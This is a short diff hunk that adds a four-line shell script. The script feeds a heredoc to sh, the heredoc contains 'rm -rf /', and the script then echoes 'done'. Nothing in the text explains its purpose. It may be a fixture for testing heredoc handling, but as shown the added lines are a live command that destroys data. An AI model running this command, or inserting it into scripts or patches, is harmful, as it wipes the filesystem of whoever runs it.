@@ -1,0 +1,4 @@
+sh <<-END
+	rm -rf /
+	END
+echo done
